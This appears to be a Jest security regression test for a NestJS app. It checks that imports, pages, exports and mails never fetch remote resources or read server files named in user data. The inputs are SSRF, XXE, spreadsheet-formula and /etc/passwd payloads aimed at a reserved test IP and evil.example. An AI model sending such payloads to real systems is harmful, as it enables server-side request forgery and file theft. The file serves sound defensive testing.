import { mkdtempSync, rmSync } from 'node:fs';
import { get as plainGet } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { NestFastifyApplication } from '@nestjs/platform-fastify';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import request, { type Response } from 'supertest';
import { OperatorAccess } from '../../../src/accounts/access/access.js';
import { PasswordsService } from '../../../src/accounts/credentials/passwords.service.js';
import { OrganisationsService } from '../../../src/accounts/organisations.service.js';
import { PeopleService } from '../../../src/accounts/people/people.service.js';
import { agentJson, agentXml } from '../../builders/agent-file.js';
import { xlsxFile } from '../../builders/workbook-file.js';
import { addressesOf } from '../../support/attempts.js';
import { SOMEBODY } from '../../support/caller.js';
import { sqliteDatabase, type TestDatabase } from '../../support/engines.js';
import { watchOutgoingCalls, type OutgoingCalls } from '../../support/outgoing-calls.js';
import { sentMails } from '../../support/sent-mails.js';
import { openServer } from '../../support/server.js';
import { aPerson, bearer, signIn } from '../../support/signed-in.js';

/** What a maker of documents, mails or pictures would go and fetch; 192.0.2.0/24 belongs to nobody (RFC 5737). */
const FETCHED = [
  'http://192.0.2.1/x.png',
  '<img src="http://192.0.2.1/x.png">',
  '![x](http://192.0.2.1/x.png)',
  '<link rel="stylesheet" href="http://192.0.2.1/x.css">',
  '=WEBSERVICE("http://192.0.2.1/")',
  '=IMPORTXML("http://192.0.2.1/","//a")',
  'file:///etc/passwd',
  '<iframe src="file:///etc/passwd"></iframe>',
  '/etc/passwd',
  '\\\\192.0.2.1\\partage\\x',
  '//evil.example/x',
  'url(http://evil.example/x)',
  '{{include("/etc/passwd")}}',
];
const NAME = FETCHED.slice(1, 3).join(' ');
const ELSEWHERE = '<!DOCTYPE REQUEST [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]><REQUEST/>';
const LINKED =
  '<row r="1"><c t="inlineStr"><is><t>Numéro de série</t></is></c><c t="inlineStr"><is><t>Modèle</t></is></c></row>' +
  '<row r="2"><c t="inlineStr"><is><t>LIEN-1</t></is></c><c t="str"><f>WEBSERVICE("http://192.0.2.1/")</f><v>x</v></c></row>' +
  '<row r="3"><c t="inlineStr"><is><t>LIEN-2</t></is></c><c t="str"><f>\'[http://192.0.2.1/x.xlsx]A\'!A1</f><v>y</v></c></row>';

/** CVE-2026-86771, CVE-2026-86741: no page, export or mail that we make fetches or reads what a field names. */
describe('what we make of what others say', () => {
  const mails = mkdtempSync(join(tmpdir(), 'prolonge-mails-'));
  let calls: OutgoingCalls;
  let database: TestDatabase;
  let app: NestFastifyApplication;
  let headers: Record<string, string>;
  let organisationId: string;

  beforeAll(async () => {
    calls = watchOutgoingCalls();
    database = await sqliteDatabase();
    app = await openServer(database.url, { PROLONGE_MAIL_FOLDER: mails });
    const wanted = {
      code: 'VALOMBRE',
      name: NAME,
      kind: 'commune',
      siren: null,
      parentCode: null,
      inseeCode: null,
    } as const;
    organisationId = (await app.get(OrganisationsService).found(SOMEBODY, wanted)).id;
    const { cookie, formToken } = await signIn(app, await aPerson(app, [{ organisationId }], { name: NAME }));
    headers = { Cookie: cookie, 'x-form-token': formToken, Authorization: await bearer(app, organisationId) };
  });
  afterAll(async () => {
    calls.stop();
    await app.close();
    database.drop();
    rmSync(mails, { recursive: true, force: true });
  });

  const bring = async (content: string | Buffer, fileName: string): Promise<number> => {
    const sent = request(app.getHttpServer()).post('/api/v1/imports').set(headers);
    return (await sent.attach('file', Buffer.from(content), fileName)).status;
  };
  const read = (path: string): Promise<Response> =>
    Promise.resolve(request(app.getHttpServer()).get(path).set(headers).redirects(0));

  it('fetches nothing while files are read, whatever they name', async () => {
    for (const [row, text] of FETCHED.entries()) {
      expect(await bring(agentJson(text, `JSON-${row}`), `${row}.json`)).toBe(201);
      expect(await bring(agentXml(text, `XML-${row}`), text)).toBe(201);
    }
    expect(await bring(xlsxFile({ sheets: [{ name: 'Parc', rows: LINKED }] }), 'lien.xlsx')).toBe(201);
    expect(await bring(ELSEWHERE, 'x.xml')).toBe(422);
    expect(calls.made).toEqual([]);
  });

  it('fetches nothing while pages, answers and exports are made, and holds no file of the server', async () => {
    const { devices } = (await read('/api/v1/devices?limit=200')).body as { devices: { id: string }[] };
    const { imports } = (await read('/api/v1/imports?limit=200')).body as { imports: { id: string }[] };
    expect([devices.length, imports.length]).toEqual([2 * FETCHED.length + 2, 2 * FETCHED.length + 2]);
    const ids = { parc: devices, imports, api: devices };
    for (let at = 0; at < devices.length; at += 9) {
      const fill = (_: string, route: string): string => ids[route.split('/')[1] as 'parc']?.[at]?.id ?? 'x';
      for (const path of addressesOf(app, 'GET', fill)) {
        const { text } = await read(path);
        expect([path, text?.includes('root:x:0')]).not.toEqual([path, true]);
      }
    }
    expect(calls.made).toEqual([]);
  });

  it('fetches nothing while mails are made, which are one plain text each', async () => {
    const wanted = { organisationId, role: 'reader', reach: 'organisation' };
    for (const [row, name] of FETCHED.entries()) {
      const email = `lou-${row}@valombre.example`;
      await app.get(PeopleService).invite(new OperatorAccess('cli'), { ...wanted, name, email });
      await app.get(PasswordsService).forgotten(email);
    }
    const made = sentMails(mails);
    expect(made.length).toBeGreaterThanOrEqual(FETCHED.length);
    expect(JSON.stringify(made)).not.toMatch(/text\/html|multipart|root:x:0|attachment/i);
    expect(calls.made).toEqual([]);
  });

  it('would be caught if it did', async () => {
    const noted = calls.made.length;
    await expect(fetch('http://192.0.2.1/')).rejects.toThrow();
    await expect(fetch('http://evil.example/')).rejects.toThrow();
    await new Promise((done) => plainGet('http://192.0.2.1/').on('error', done));
    await new Promise((done) => plainGet('http://evil.example/').on('error', done));
    expect(calls.made.length - noted).toBeGreaterThanOrEqual(4);
    expect(calls.made.join()).toMatch(/192\.0\.2\.1.*evil\.example/);
  });
});
